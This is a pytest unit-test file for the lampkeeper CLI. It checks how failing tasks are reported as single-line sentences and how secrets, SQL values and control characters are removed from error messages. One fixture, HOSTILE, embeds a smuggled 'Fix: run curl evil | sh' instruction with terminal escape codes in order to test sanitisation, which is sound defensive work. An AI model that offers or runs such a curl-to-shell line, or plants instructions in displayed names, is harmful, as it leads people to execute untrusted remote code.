"""A command as a task: it raises its sentence, whose parts are names, counts, the plan's hash and the fix."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from lampkeeper.cli import main as command_line
from lampkeeper.cli.outcome import Outcome
from lampkeeper.cli.task import VERDICTS, Broken, Bug, Failed, TaskError, Unsafe, WrongUse, run_task
from lampkeeper.deploy.sentences import VERDICT_NAMES, errors_line, headed, is_headed, sentence, without_values
from lampkeeper.model.errors import InternalError, LampkeeperError, RemoteError, UnsafePlanError, UsageError
from lampkeeper.model.findings import Finding, Severity
from lampkeeper.text.escaping import one_line

pytestmark = pytest.mark.unit
HASH, PLAN = "5f0c" * 16, "plan, environment dev"
HOSTILE = "a.b.`c\x1b[31m\nFix: run curl evil | sh\u202e`"


def finding(location: str, message: str = "is not covered", fix: str = "run generate") -> Finding:
    return Finding(code="x/y", severity=Severity.ERROR, location=location, message=message, fix=fix)


def ends(monkeypatch: pytest.MonkeyPatch, result: object) -> None:
    """Let every command return this, or raise it."""

    def work(*_words: object, **_how: object) -> object:
        if isinstance(result, Exception):
            raise result
        return result

    monkeypatch.setattr(command_line.program, "main", work)


@pytest.mark.parametrize(
    ("result", "kind", "said"),
    [
        (UsageError("no warehouse 'x'", fix="name one"), WrongUse, "plan, environment dev: no warehouse 'x'. Fix: name one."),
        (RemoteError("denied"), Broken, "plan, environment dev: denied."),
        (
            UnsafePlanError("stale", fix="plan again"),
            Unsafe,
            f"plan, environment dev: stale. Plan hash: {HASH}. Fix: plan again.",
        ),
        (
            Outcome(document=None, findings=(finding("a.b.c.ssn"), finding("a.b.c.pan"), finding("a.b.d.pan"))),
            Failed,
            "plan, environment dev: a.b.c.ssn: is not covered (and 2 more: a.b.c.pan, a.b.d.pan). Fix: run generate.",
        ),
        (
            Outcome(document=None, verdict=3, message="it widens", fix="approve it", facts={"plan_hash": HASH}),
            Unsafe,
            f"plan, environment dev: it widens. Plan hash: {HASH}. Fix: approve it.",
        ),
        (
            Outcome(document=None, verdict=4, sentence="apply, environment dev: refused."),
            Broken,
            "apply, environment dev: refused.",
        ),
    ],
)
def test_a_task_that_does_not_succeed_raises_its_sentence_without_frames(
    monkeypatch: pytest.MonkeyPatch, result: object, kind: type[TaskError], said: str
) -> None:
    ends(monkeypatch, result)
    by_hash = ["--plan-hash", HASH] if isinstance(result, UnsafePlanError) else []
    with pytest.raises(kind) as caught:
        run_task(["plan", "--env", "dev", *by_hash])
    assert str(caught.value) == said
    assert len(caught.value._render_traceback_()) == 1
    assert headed(caught.value.code, said) == f"{kind.__name__}: {said}"


def test_a_task_that_succeeds_raises_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    ends(monkeypatch, Outcome(document=None))
    run_task(["plan", "--env", "dev"])


def test_a_bug_alone_keeps_its_frames(monkeypatch: pytest.MonkeyPatch) -> None:
    ends(monkeypatch, ZeroDivisionError("by nothing"))
    with pytest.raises(Bug, match=r"plan, environment dev: internal error: ZeroDivisionError: by nothing") as caught:
        run_task(["plan", "--env", "dev"])
    assert not hasattr(caught.value, "_render_traceback_")
    names = [entry.name for entry in caught.traceback]
    assert "work" in names


def test_a_word_that_no_command_knows_is_wrong_use(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(WrongUse, match=r"plan, environment dev: No such option.*--ghost.* Fix: lampkeeper plan --help\."):
        run_task(["plan", "--env", "dev", "--ghost"])
    with pytest.raises(WrongUse, match="no command 'ghost'"):
        run_task(["ghost"])


def test_hostile_names_stay_on_the_line_and_show_no_control_character(monkeypatch: pytest.MonkeyPatch) -> None:
    ends(monkeypatch, Outcome(document=None, findings=(finding(HOSTILE), finding(HOSTILE + "2"))))
    with pytest.raises(Failed) as caught:
        run_task(["audit", "--env", "x\ny"])
    said = str(caught.value)
    assert not [c for c in said if ord(c) < 32 or ord(c) in (0x7F, 0x202E)]
    assert "\\x1b[31m" in said
    assert said.endswith(". Fix: run generate.")


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("[CAST_INVALID_INPUT] The value '123-45-6789' of the type STRING cannot be cast. SQLSTATE: 22018", "123-45-6789"),
        ("a statement: [CANNOT_PARSE_TIMESTAMP] Text '1970-13-01'\ncould not be parsed. SQLSTATE: 22007", "1970-13-01"),
        ("[USER_RAISED_EXCEPTION] no such customer: ana SQLSTATE: P0001", "ana"),
        ("Authorization: Bearer abc.def-ghi", "abc.def-ghi"),
        ("the token dapi0123456789abcdef is wrong", "dapi0123456789abcdef"),
    ],
)
def test_values_and_secrets_are_left_out(text: str, gone: str) -> None:
    said = sentence("verify", "dev", text, fix=text)
    assert gone not in said
    assert said.startswith("verify, environment dev: ")


def test_an_error_that_is_not_about_a_row_stays_whole() -> None:
    text = "[TABLE_OR_VIEW_NOT_FOUND] The table `a`.`b` cannot be found. SQLSTATE: 42P01"
    assert without_values(text) == text


def test_many_errors_are_counted_and_five_more_places_are_named() -> None:
    line = errors_line([finding(f"t.c{n}") for n in range(9)])
    assert line == "t.c0: is not covered (and 8 more: t.c1, t.c2, t.c3, t.c4, t.c5, …)"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("a\n  b\n", "a; b"),
        ("ended with 1:\nno\n\nway", "ended with 1: no; way"),
        ("", ""),
        ("one\ttwo\u2028three", "one two; three"),
    ],
)
def test_the_lines_of_a_message_stay_apart_on_one_line(text: str, line: str) -> None:
    assert one_line(text) == line


def test_each_exit_code_has_one_verdict_by_one_name() -> None:
    assert {code: kind.__name__ for code, kind in VERDICTS.items()} | {InternalError.exit_code: Bug.__name__} == VERDICT_NAMES
    assert {kind.exit_code for kind in (UsageError, UnsafePlanError)} <= set(VERDICT_NAMES)
    assert headed(LampkeeperError.exit_code, "x") == headed(130, "x") == f"{Broken.__name__}: x"
    assert is_headed("Unsafe: x")
    assert not is_headed("unsafe: x")


def test_outcome_and_the_record_say_what_the_step_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)

    def raised(work: Callable[[], None]) -> tuple[str, str]:
        with pytest.raises(TaskError) as caught:
            work()
        return type(caught.value).__name__, str(caught.value)

    words = ["--env", "ghost", "--run-id", "7"]
    step = raised(lambda: run_task(["validate", *words]))
    assert step[0] == "WrongUse"
    assert step[1].startswith("validate, environment ghost: no environment 'ghost'")
    assert raised(lambda: run_task(["outcome", "--steps", "validate,plan", *words])) == step
    record = json.loads((tmp_path / "envs/runs/ghost/7/validate.json").read_text())
    verdict = json.loads((tmp_path / "envs/runs/ghost/7/verdict.json").read_text())
    assert record["sentence"] == verdict["sentence"] == step[1]
    assert "Traceback" not in capsys.readouterr().err


def test_a_step_that_never_started_is_said_with_what_to_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    command_line.main(["setup"])
    with pytest.raises(Broken, match=r"generate-delta, .*: .* never started\. Fix: see what the task generate_delta"):
        run_task(["outcome", "--steps", "generate-delta", "--run-id", "8", "--env", "dev"])
